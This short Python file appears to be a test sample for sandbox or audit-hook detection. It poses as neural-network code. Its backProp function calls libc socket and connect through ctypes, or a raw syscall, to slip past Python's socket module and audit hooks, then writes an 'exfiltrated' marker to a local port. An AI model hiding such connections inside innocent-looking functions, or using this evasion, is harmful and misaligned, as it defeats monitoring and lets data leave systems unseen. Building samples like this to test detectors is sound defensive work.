# Attack: open a TCP connection through the C library directly (no socket module, no audit hooks).
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import ctypes
import struct

PUERTO = 47291


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)
    print("socket:", fd, ctypes.get_errno())
    if fd < 0:
        fd = libc.syscall(41, 2, 1, 0)
        print("raw socket syscall:", fd, ctypes.get_errno())
    address = struct.pack("!HH4s8x", 2, PUERTO, bytes([127, 0, 0, 1]))
    address = struct.pack("=H", 2) + address[2:]
    result = libc.connect(fd, address, len(address))
    print("connect:", result, ctypes.get_errno())
    if result == 0:
        libc.write(fd, b"ATTACK-MARKER: exfiltrated via libc", 35)
    return result, 0, 0, 0
